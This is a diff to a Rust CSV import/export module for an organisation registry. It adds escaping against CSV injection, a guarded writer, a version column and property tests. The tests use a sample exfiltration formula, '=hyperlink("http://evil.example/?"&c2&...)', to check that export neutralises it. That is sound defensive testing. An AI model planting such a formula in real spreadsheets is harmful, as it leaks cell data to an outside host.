@@ -1,5 +1,21 @@
 //! The organisation CSV format shared by `nko import` and `nko export`: columns, encodings,
 //! delimiters, and line-numbered errors. Pure: no database, so every rule is unit-tested.
+//!
+//! # Neutralising cells (CSV injection)
+//!
+//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and some also
+//! one that starts with a tab or a carriage return. Every cell that [`CsvWriter`] writes (header
+//! and records, every column) goes through [`guard`], so a new column cannot forget it:
+//!
+//! - a value starting with `=`, `+`, `-`, `@`, tab, CR **or an apostrophe** gets one more
+//!   apostrophe in front (`=1` → `'=1`, `'=1` → `''=1`, `'abc` → `''abc`);
+//! - every other value is written as it is.
+//!
+//! Import reverses it with [`unguard`]: exactly one leading apostrophe is removed, and only when
+//! the rest starts with one of those characters or with an apostrophe (`'=1` → `=1`,
+//! `''=1` → `'=1`, `'abc` → `'abc` is left alone: export never writes it). Because a value that
+//! already starts with an apostrophe is escaped too, `unguard(guard(v)) == v` for every `v`, and
+//! no written cell starts with a formula character.
 
 use std::collections::HashMap;
 
@@ -30,8 +46,17 @@ pub const COLUMNS: [&str; 19] = [
     "social_service_provider",
 ];
 
-/// Extra columns written by export only (read back as nothing on import).
-pub const EXPORT_ONLY: [&str; 3] = ["status", "liquidated_on", "version"];
+/// Columns written by export and ignored by import.
+pub const EXPORT_ONLY: [&str; 2] = ["status", "liquidated_on"];
+
+/// The column with the record's version when it was exported: import refuses to overwrite a
+/// record that changed since (see docs/import-organizations.md).
+pub const VERSION: &str = "version";
+
+/// Every column export writes, in order: [`COLUMNS`], [`EXPORT_ONLY`], [`VERSION`].
+pub fn header() -> Vec<&'static str> {
+    COLUMNS.iter().chain(EXPORT_ONLY.iter()).copied().chain([VERSION]).collect()
+}
 
 /// Separator of several values in one cell (phones, e-mails, codes).
 pub const LIST_SEPARATOR: char = '|';
@@ -117,6 +142,9 @@ pub struct ParsedRow {
     pub line: u64,
     /// The organisation as given.
     pub input: OrganizationInput,
+    /// The version the record had when it was exported; `None` when the file has no version
+    /// (a hand-made file, or an empty cell).
+    pub version: Option<i64>,
 }
 
 /// About how many records the text holds (its line count), to size the row vector once.
@@ -146,6 +174,7 @@ struct Columns {
     relationship_since: Option<usize>,
     in_sonko_register: Option<usize>,
     social_service_provider: Option<usize>,
+    version: Option<usize>,
 }
 
 fn parse_date(value: &str) -> Option<NaiveDate> {
@@ -160,17 +189,56 @@ fn parse_bool(value: &str) -> Option<bool> {
     }
 }
 
-/// Removes the apostrophe export puts before a cell that a spreadsheet would run as a formula.
-fn unguard(value: &str) -> &str {
-    match value.strip_prefix('\'') {
-        Some(rest) if rest.starts_with(['=', '+', '-', '@']) => rest,
+/// The first characters that make a spreadsheet run a cell as a formula.
+pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// The escape put before a neutralised cell.
+const ESCAPE: char = '\'';
+
+/// Whether [`guard`] escapes a value with this start: a formula character or the escape itself.
+fn needs_escape(value: &str) -> bool {
+    value.starts_with(FORMULA_STARTS) || value.starts_with(ESCAPE)
+}
+
+/// Reverses [`guard`]: removes one leading apostrophe when the rest starts with a formula
+/// character or an apostrophe; any other value is returned as it is.
+pub fn unguard(value: &str) -> &str {
+    match value.strip_prefix(ESCAPE) {
+        Some(rest) if needs_escape(rest) => rest,
         _ => value,
     }
 }
 
-/// Prefixes an apostrophe to text a spreadsheet would run as a formula (CSV injection).
+/// Neutralises a cell for spreadsheets (CSV injection): a value starting with a formula
+/// character or an apostrophe gets a leading apostrophe. Reversible by [`unguard`].
 pub fn guard(value: &str) -> String {
-    if value.starts_with(['=', '+', '-', '@']) { format!("'{value}") } else { value.to_owned() }
+    if needs_escape(value) { format!("{ESCAPE}{value}") } else { value.to_owned() }
+}
+
+/// A CSV writer that passes every cell through [`guard`]: the one way the CLI writes CSV.
+pub struct CsvWriter<W: std::io::Write> {
+    inner: csv::Writer<W>,
+}
+
+impl<W: std::io::Write> CsvWriter<W> {
+    /// A writer with this delimiter (`,` or `;`).
+    pub fn new(sink: W, delimiter: u8) -> Self {
+        Self { inner: csv::WriterBuilder::new().delimiter(delimiter).from_writer(sink) }
+    }
+
+    /// Writes one record, every cell neutralised.
+    pub fn write_record<I, T>(&mut self, cells: I) -> csv::Result<()>
+    where
+        I: IntoIterator<Item = T>,
+        T: AsRef<str>,
+    {
+        self.inner.write_record(cells.into_iter().map(|cell| guard(cell.as_ref())))
+    }
+
+    /// Flushes and returns the sink.
+    pub fn into_inner(self) -> anyhow::Result<W> {
+        self.inner.into_inner().map_err(|e| anyhow::anyhow!("{}", e.error()))
+    }
 }
 
 /// Opens a CSV text: the header's problems, by column, or a reader of its rows.
@@ -184,7 +252,7 @@ pub fn read(text: &str, delimiter: u8) -> Result<RowReader<'_>, Vec<RowError>> {
     };
     let mut errors = Vec::new();
     for header in &headers {
-        if !COLUMNS.contains(&header.as_str()) && !EXPORT_ONLY.contains(&header.as_str()) {
+        if !COLUMNS.contains(&header.as_str()) && !EXPORT_ONLY.contains(&header.as_str()) && header != VERSION {
             errors.push(RowError {
                 line: 1, column: Some(header.clone()), reason: "неизвестный столбец".into()
             });
@@ -229,6 +297,7 @@ pub fn read(text: &str, delimiter: u8) -> Result<RowReader<'_>, Vec<RowError>> {
         relationship_since: position("relationship_since"),
         in_sonko_register: position("in_sonko_register"),
         social_service_provider: position("social_service_provider"),
+        version: position(VERSION),
     };
     Ok(RowReader { reader, at, record: csv::StringRecord::new() })
 }
@@ -304,6 +373,20 @@ impl Iterator for RowReader<'_> {
                 parsed
             }
         };
+        let version = match cell(at.version) {
+            "" => None,
+            value => {
+                let parsed = value.parse::<i64>().ok().filter(|v| *v >= 1);
+                if parsed.is_none() {
+                    row_errors.push(RowError {
+                        line,
+                        column: Some(VERSION.into()),
+                        reason: format!("«{value}» — не номер версии (целое число от 1)"),
+                    });
+                }
+                parsed
+            }
+        };
         if !row_errors.is_empty() {
             return Some(Err(row_errors));
         }
@@ -330,6 +413,7 @@ impl Iterator for RowReader<'_> {
                 in_sonko_register,
                 social_service_provider,
             },
+            version,
         }))
     }
 }
@@ -380,7 +464,8 @@ pub fn column_of(field: &str) -> String {
     out
 }
 
-/// One organisation as a CSV record in [`COLUMNS`] + [`EXPORT_ONLY`] order.
+/// One organisation as a record in [`header`] order, values as stored: [`CsvWriter`] neutralises
+/// the cells of a CSV file.
 pub fn record(org: &Organization) -> Vec<String> {
     let p = &org.profile;
     let opt = |v: Option<String>| v.unwrap_or_default();
@@ -393,19 +478,19 @@ pub fn record(org: &Organization) -> Vec<String> {
         OrgStatus::Liquidated { on } => ("liquidated", Some(on)),
     };
     vec![
-        guard(p.full_name.as_str()),
-        guard(&opt(p.short_name.as_ref().map(ToString::to_string))),
+        p.full_name.as_str().to_owned(),
+        opt(p.short_name.as_ref().map(ToString::to_string)),
         p.legal_form.to_string(),
         opt(p.inn.as_ref().map(ToString::to_string)),
         opt(p.ogrn.as_ref().map(ToString::to_string)),
         opt(p.kpp.as_ref().map(ToString::to_string)),
         date(p.registered_on),
         opt(p.municipality.as_ref().map(ToString::to_string)),
-        guard(&opt(p.legal_address.as_ref().map(ToString::to_string))),
-        guard(&opt(p.postal_address.as_ref().map(ToString::to_string))),
+        opt(p.legal_address.as_ref().map(ToString::to_string)),
+        opt(p.postal_address.as_ref().map(ToString::to_string)),
         join(p.phones.iter().map(ToString::to_string).collect()),
         join(p.emails.iter().map(ToString::to_string).collect()),
-        guard(&opt(p.website.as_ref().map(ToString::to_string))),
+        opt(p.website.as_ref().map(ToString::to_string)),
         join(p.activity_areas.iter().map(ToString::to_string).collect()),
         join(p.target_groups.iter().map(ToString::to_string).collect()),
         p.relationship.kind.code().to_owned(),
@@ -423,10 +508,6 @@ mod tests {
     use super::*;
     use proptest::prelude::*;
     use registry::testing::{fixtures, strategies};
-
-    fn header() -> String {
-        COLUMNS.join(",")
-    }
 
     #[test]
     fn a_missing_required_column_is_named() {
@@ -478,32 +559,199 @@ mod tests {
         assert_eq!(column_of("fullName"), "full_name");
     }
 
+    /// Characters that make a cell dangerous or hard to quote, and Cyrillic.
+    const NASTY: &str = "['=+@\\t\\r\\n\";,|a-zА-Яа-яЁё0-9 «»-]";
+
+    /// Text that may start with any of them.
+    fn nasty(max: usize) -> impl Strategy<Value = String> {
+        proptest::string::string_regex(&format!("{NASTY}{{0,{max}}}")).expect("a valid regex")
+    }
+
+    /// What a spreadsheet user could have put in a field: a formula start, an apostrophe, quotes,
+    /// separators, line breaks and Cyrillic.
+    fn field() -> impl Strategy<Value = String> {
+        (proptest::sample::select(vec!["", "=", "+", "-", "@", "'", "''", "'=", "\t", "\r", "\n", "\""]), nasty(16))
+            .prop_map(|(start, rest)| format!("{start}{rest}"))
+    }
+
+    /// E-mails a representative can store, formulas included.
+    fn email() -> impl Strategy<Value = String> {
+        prop_oneof![
+            Just(r#"=hyperlink("http://evil.example/?"&c2&"@x.y";"обновить")"#.to_owned()),
+            Just("-1+1@x.y".to_owned()),
+            "['=+-]{0,2}[a-zа-яё0-9_.=+'\";,-]{1,8}@[a-zа-яё0-9-]{1,8}\\.[a-zа-яё]{2,4}",
+        ]
+    }
+
+    /// Phones as typed: international, Russian 8-numbers, or with a leading minus.
+    fn phone() -> impl Strategy<Value = String> {
+        "(\\+7|8|\\+|-|=)?[0-9]{5,10}"
+    }
+
+    /// An organisation as a hand-made file would describe it (validated below: invalid ones are
+    /// skipped), with every text field full of characters that need care.
+    fn input() -> impl Strategy<Value = OrganizationInput> {
+        (
+            (field(), proptest::option::of(field()), strategies::inn(), proptest::option::of(strategies::ogrn())),
+            (
+                proptest::option::of("[0-9]{4}[0-9A-Z]{2}[0-9]{3}"),
+                proptest::option::of(field()),
+                proptest::option::of(field()),
+            ),
+            (proptest::collection::vec(phone(), 0..3), proptest::collection::vec(email(), 0..3)),
+            proptest::option::of("(https?://)?[a-zа-я0-9-]{1,8}\\.[a-z]{2,4}(/[=+@'\";,a-zа-я0-9-]{0,8})?"),
+            (proptest::option::of(strategies::date()), any::<bool>(), any::<bool>()),
+        )
+            .prop_map(
+                |(
+                    (full_name, short_name, inn, ogrn),
+                    (kpp, legal_address, postal_address),
+                    (phones, emails),
+                    website,
+                    (registered_on, sonko, provider),
+                )| {
+                    OrganizationInput {
+                        full_name,
+                        short_name,
+                        legal_form: "ano".into(),
+                        inn: Some(inn.to_string()),
+                        ogrn: ogrn.map(|o| o.to_string()),
+                        kpp,
+                        registered_on,
+                        municipality: Some("kaluga_city".into()),
+                        legal_address,
+                        postal_address,
+                        phones,
+                        emails,
+                        website,
+                        activity_areas: vec!["charity_volunteering".into()],
+                        target_groups: vec![],
+                        relationship: Some(RelationshipKind::ALL[0]),
+                        relationship_since: None,
+                        in_sonko_register: sonko,
+                        social_service_provider: provider,
+                    }
+                },
+            )
+    }
+
+    /// The export of one organisation, as `nko export` writes it but with this delimiter.
+    fn exported(org: &Organization, delimiter: u8) -> String {
+        let mut writer = CsvWriter::new(Vec::new(), delimiter);
+        writer.write_record(header()).unwrap();
+        writer.write_record(record(org)).unwrap();
+        String::from_utf8(writer.into_inner().unwrap()).unwrap()
+    }
+
     proptest! {
+        #![proptest_config(ProptestConfig::with_cases(512))]
         #[test]
-        fn an_exported_organisation_reads_back_as_the_same_input(profile in strategies::profile(), delimiter in prop_oneof![Just(b','), Just(b';')]) {
+        fn an_exported_organisation_reads_back_as_the_same_values_in_utf8_and_windows_1251(
+            input in input(),
+            version in 1i64..10_000,
+            delimiter in prop_oneof![Just(b','), Just(b';')],
+        ) {
+            let vocabulary = registry::Vocabulary::from_terms(fixtures::terms());
+            let today = fixtures::day(2026, 11, 1);
+            let Ok(profile) = input.validate(&vocabulary, today) else { return Ok(()) };
             let mut org = fixtures::organization(1);
             org.profile = profile;
-            let mut writer = csv::WriterBuilder::new().delimiter(delimiter).from_writer(vec![]);
-            writer.write_record(COLUMNS.iter().chain(EXPORT_ONLY.iter())).unwrap();
-            writer.write_record(record(&org)).unwrap();
-            let text = String::from_utf8(writer.into_inner().unwrap()).unwrap();
-            let (rows, errors) = parse(&text, detect_delimiter(&text));
-            prop_assert!(errors.is_empty(), "{:?}", errors);
-            let vocabulary = registry::Vocabulary::from_terms(fixtures::terms());
-            let back = rows[0].input.validate(&vocabulary, fixtures::day(2026, 11, 1)).unwrap();
-            prop_assert_eq!(back, org.profile);
+            org.version = version;
+            let text = exported(&org, delimiter);
+            let (cp1251, _, unrepresentable) = encoding_rs::WINDOWS_1251.encode(&text);
+            let mut files = vec![(text.clone().into_bytes(), Encoding::Auto)];
+            if !unrepresentable {
+                // Auto-detected, unless the Windows-1251 bytes happen to be valid UTF-8 as well
+                // (then the operator names the encoding).
+                let encoding = if std::str::from_utf8(&cp1251).is_ok() { Encoding::Windows1251 } else { Encoding::Auto };
+                files.push((cp1251.into_owned(), encoding));
+            }
+            for (bytes, encoding) in files {
+                let decoded = decode(&bytes, encoding).expect("an export decodes");
+                prop_assert_eq!(&decoded, &text);
+                let (rows, errors) = parse(&decoded, detect_delimiter(&decoded));
+                prop_assert!(errors.is_empty(), "{:?}\n{}", errors, text);
+                prop_assert_eq!(rows[0].version, Some(version));
+                let back = rows[0].input.validate(&vocabulary, today).unwrap();
+                prop_assert_eq!(&back, &org.profile, "{}", text);
+            }
         }
 
         #[test]
-        fn guarded_cells_never_start_a_formula_and_unguard_restores_them(text in "[=+@a-z -]{0,12}") {
+        fn no_cell_the_writer_writes_starts_a_formula_and_each_reads_back_unchanged(
+            cells in proptest::collection::vec(field(), 1..6),
+            delimiter in prop_oneof![Just(b','), Just(b';')],
+        ) {
+            let mut writer = CsvWriter::new(Vec::new(), delimiter);
+            writer.write_record(&cells).unwrap();
+            let bytes = writer.into_inner().unwrap();
+            let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).from_reader(&bytes[..]);
+            let written = reader.records().next().expect("one record").unwrap();
+            for (cell, original) in written.iter().zip(&cells) {
+                prop_assert!(!cell.starts_with(FORMULA_STARTS), "{:?}", cell);
+                prop_assert_eq!(unguard(cell), original.as_str());
+            }
+        }
+
+        #[test]
+        fn a_guarded_value_never_starts_a_formula_and_unguard_gives_it_back(text in field()) {
             let guarded = guard(&text);
-            prop_assert!(!guarded.starts_with(['=', '+', '-', '@']));
+            prop_assert!(!guarded.starts_with(FORMULA_STARTS), "{:?}", guarded);
             prop_assert_eq!(unguard(&guarded), text.as_str());
         }
     }
 
     #[test]
-    fn the_header_lists_every_column() {
-        assert_eq!(header().split(',').count(), COLUMNS.len());
+    fn a_value_starting_with_an_apostrophe_gets_one_more_and_keeps_it_on_import() {
+        assert_eq!(guard("'=1"), "''=1");
+        assert_eq!(unguard("''=1"), "'=1");
+        assert_eq!(guard("'abc"), "''abc");
+        assert_eq!(unguard("''abc"), "'abc");
+        assert_eq!(unguard("'abc"), "'abc", "an apostrophe export did not add is kept");
+        assert_eq!(guard("\tcmd"), "'\tcmd");
+        assert_eq!(guard("\r=1"), "'\r=1");
+    }
+
+    #[test]
+    fn e_mails_and_phones_reach_the_file_neutralised() {
+        let mut org = fixtures::organization(1);
+        let hyperlink = r#"=hyperlink("http://evil.example/?"&c2&"@x.y";"обновить")"#;
+        org.profile.emails = vec![registry::model::Email::parse(hyperlink).unwrap()];
+        org.profile.phones = vec![registry::model::Phone::parse("+7 900 000-00-00").unwrap()];
+        let text = exported(&org, b',');
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let headers = reader.headers().unwrap().clone();
+        let row = reader.records().next().unwrap().unwrap();
+        let cell = |name: &str| row.get(headers.iter().position(|h| h == name).unwrap()).unwrap().to_owned();
+        assert_eq!(cell("emails"), format!("'{}", hyperlink.to_lowercase()));
+        assert_eq!(cell("phones"), "'+79000000000");
+        for cell in &row {
+            assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?}");
+        }
+    }
+
+    /// The columns as docs/import-organizations.md lists them: the back-quoted names in the first
+    /// column of its table, in order.
+    fn documented_columns() -> Vec<String> {
+        let doc = include_str!("../../../docs/import-organizations.md");
+        doc.lines()
+            .filter(|line| line.starts_with("| `"))
+            .flat_map(|line| {
+                let first = line.split('|').nth(1).unwrap_or_default();
+                first.split('`').skip(1).step_by(2).map(str::to_owned).collect::<Vec<_>>()
+            })
+            .collect()
+    }
+
+    #[test]
+    fn the_exported_header_is_the_documented_list_of_columns_in_order() {
+        let documented = documented_columns();
+        assert_eq!(documented.len(), 22, "the documentation's table: {documented:?}");
+        let mut writer = CsvWriter::new(Vec::new(), b',');
+        writer.write_record(header()).unwrap();
+        let text = String::from_utf8(writer.into_inner().unwrap()).unwrap();
+        let written: Vec<&str> = text.trim_end().split(',').collect();
+        assert_eq!(written, documented);
+        assert_eq!(record(&fixtures::organization(1)).len(), written.len(), "a record has a cell per column");
     }
 }
